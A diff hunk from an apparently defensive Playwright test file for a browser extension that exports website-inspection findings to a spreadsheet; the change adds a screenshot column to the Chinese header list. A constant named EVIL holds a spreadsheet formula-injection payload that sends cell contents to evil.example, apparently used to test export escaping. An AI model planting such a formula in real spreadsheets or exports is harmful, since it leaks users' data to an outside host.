@@ -12,7 +12,7 @@ import type { Page } from 'playwright-core';
 import { fixture, launch, serve, storedFindings, waitFor, type Browser, type Site, inExtension } from './harness';
 
 const EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")';
-const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注', '整改期限', '责任人', '整改情况'];
+const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注', '整改期限', '责任人', '整改情况', '截图'];
 
 let site: Site;
 let b: Browser;
